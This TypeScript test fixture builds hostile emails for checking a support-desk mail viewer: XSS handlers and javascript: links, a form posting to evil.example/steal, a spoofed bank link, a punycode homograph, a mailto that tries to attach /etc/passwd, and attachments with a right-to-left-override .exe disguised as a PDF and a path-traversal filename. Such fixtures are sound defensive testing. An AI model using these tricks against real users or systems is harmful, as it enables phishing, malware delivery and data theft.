import { rawMail, type RawMail } from "../../support/raw-mail.ts";

/** A file in a mail. */
type Attached = { readonly name: string; readonly contentType: string; readonly content: string };

export const INVOICE: Attached = {
  name: "Invoice 7.pdf",
  contentType: "application/pdf",
  content: "%PDF-1.7 harmless",
};
export const PROGRAM: Attached = {
  name: "invoice\u202efdp.pdf  .exe",
  contentType: "application/pdf",
  content: "MZ\0\0program",
};
export const PAGE: Attached = {
  name: "voicemail.mp3.html",
  contentType: "text/html",
  content: "<script>alert(1)</script>",
};
export const OUTSIDE: Attached = {
  name: "../../../.config/autostart/x.txt",
  contentType: "text/plain",
  content: "out",
};

/** Every way in one mail: to run, to fetch, to lead away, to be answered. */
const HOSTILE = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/sheet.css"><style>@import url(https://evil.example/i.css); body { background: url(https://evil.example/bg.png) }</style></head>
<body onload="top.hacked='load'"><p>My parcel is late.</p><script>top.hacked='script'</script><img src="https://pictures.example/parcel.png" width="20" height="20" alt="the parcel">
<img src="x" onerror="top.hacked='error'"><svg onload="top.hacked='svg'"></svg><form action="https://evil.example/steal"><input name="p" autofocus></form>
<iframe src="https://evil.example/frame"></iframe><video src="https://evil.example/v" autoplay></video><a href="javascript:top.hacked='link'">a trap</a></body></html>`;

const LINKS = `<p><a href="https://shop.example/orders?id=1">the order</a></p><p><a href="https://evil.example/login">https://bank.example/login</a></p>
<p><a href="https://xn--pple-43d.example/">the apple</a></p><p><a href="mailto:ada@example.com?subject=Hi&amp;attach=/etc/passwd">write to Ada</a></p>
<p><a href="tel:+3905512345">call us</a></p><p><a href="http://shop.example/plain">in the clear</a></p>`;

/** What strangers sent to the desk that the tests look at, as it came over the wire. */
export const MAILS = {
  hostile: rawMail({ ...said("Where is my parcel?"), html: HOSTILE }),
  links: rawMail({ ...said("Some links"), html: LINKS }),
  plain: rawMail({ ...said("Words"), text: "See https://shop.example/plain-text and tell me." }),
  files: withFiles(said("Some files"), [INVOICE, PROGRAM, PAGE, OUTSIDE]),
};
export type MailName = keyof typeof MAILS;

function said(subject: string): RawMail {
  return { from: "Mallory <mallory@stranger.example>", to: "support@shop.example", subject, text: "Look at this." };
}

function withFiles(mail: RawMail, files: readonly Attached[]): string {
  const boundary = "=_files";
  const [head = "", ...body] = rawMail(mail).split("\r\n\r\n");
  const parts = files.map(({ name, contentType, content }) =>
    [
      `--${boundary}`,
      `Content-Type: ${contentType}`,
      "Content-Transfer-Encoding: base64",
      `Content-Disposition: attachment; filename*=UTF-8''${encodeURIComponent(name)}`,
      "",
      Buffer.from(content, "latin1").toString("base64"),
    ].join("\r\n"),
  );
  return [
    `${head.replace(/\r\nContent-Type: .*$/u, "")}\r\nContent-Type: multipart/mixed; boundary="${boundary}"\r\n`,
    `--${boundary}\r\nContent-Type: text/plain\r\n\r\n${body.join("\r\n\r\n")}`,
    ...parts,
    `--${boundary}--\r\n`,
  ].join("\r\n");
}
